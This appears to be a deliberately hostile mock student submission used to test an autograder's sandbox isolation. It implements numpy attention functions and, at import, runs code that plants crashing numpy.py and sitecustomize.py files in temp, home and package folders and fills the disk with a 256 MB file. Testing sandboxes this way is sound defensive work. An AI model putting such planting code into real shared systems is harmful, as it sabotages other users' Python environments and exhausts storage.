# expect: full
# Isolation class 3, per worker instead of per child. It writes wherever it can (its own
# folder, /tmp, /var/tmp, /dev/shm, the package folders), plants numpy.py and
# sitecustomize.py for later students to import, fills its folder to the limit, and pre-creates
# the names a predictable next folder would have. correct_reports_leftovers.py, graded after
# it in tests/test_isolation.py, must find none of it. Writing into the package folders
# is a breach in itself.

import numpy as np

import os
import sys

BREACHES = []


def breach(what):
    BREACHES.append(what)
    print("BREACH:", what)


def softmax(S, axis=-1):
    shifted = S - S.max(axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / e.sum(axis=axis, keepdims=True)


def causal_mask(T):
    return np.triu(np.full((T, T), -np.inf), k=1)


def scaled_dot_product_attention(Q, K, V, mask=None, scale=None):
    if scale is None:
        scale = 1.0 / np.sqrt(Q.shape[-1])
    scores = (Q @ np.swapaxes(K, -1, -2)) * scale
    if mask is not None:
        scores = scores + mask
    weights = softmax(scores, axis=-1)
    return weights @ V, weights


def previous_token_head(n_vocab, T):
    d = n_vocab + T
    gain = 12.0 * np.sqrt(T)  # the grader divides the scores by sqrt(T)
    W_Q = np.zeros((d, T))
    W_Q[n_vocab + 1:, :-1] = gain * np.eye(T - 1)  # position i asks for position i - 1
    W_K = np.zeros((d, T))
    W_K[n_vocab:, :] = np.eye(T)  # a key says where it sits
    W_V = np.zeros((d, n_vocab))
    W_V[:n_vocab, :] = np.eye(n_vocab)  # a value carries the token
    return W_Q, W_K, W_V


def qk_circuit(W_Q, W_K):
    return W_Q @ W_K.T + len(BREACHES)  # right only while the sandbox held


def ov_circuit(W_V, W_O):
    return W_V @ W_O


def multi_head_attention(X, W_Q, W_K, W_V, W_O, n_heads, causal=False):
    d_head = W_Q.shape[1] // n_heads
    mask = causal_mask(X.shape[-2]) if causal else None
    per_head = []
    for h in range(n_heads):
        cols = slice(h * d_head, (h + 1) * d_head)
        o_h, _ = scaled_dot_product_attention(X @ W_Q[:, cols], X @ W_K[:, cols], X @ W_V[:, cols], mask=mask)
        per_head.append(o_h @ W_O[cols, :])
    per_head = np.stack(per_head)
    return per_head.sum(0), per_head


import numpy as _np


def _plant():
    fake = "raise SystemExit('planted by a classmate')\n"
    for folder in (os.getcwd(), os.environ.get("TMPDIR", "/tmp"), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        for name in ("numpy.py", "sitecustomize.py", "PLANTED-by-hostile", "sandbox-1-2"):
            try:
                with open(os.path.join(folder, name), "w") as f:
                    f.write(fake)
            except OSError:
                pass
    site = os.path.dirname(os.path.dirname(_np.__file__))
    try:
        with open(os.path.join(site, "PLANTED-by-hostile.py"), "w") as f:
            f.write(fake)
        breach("wrote into the package folder " + site)
    except OSError:
        pass
    try:
        with open("filler", "wb") as f:
            for _ in range(256):
                f.write(b"x" * (1 << 20))
    except OSError:
        pass


_plant()
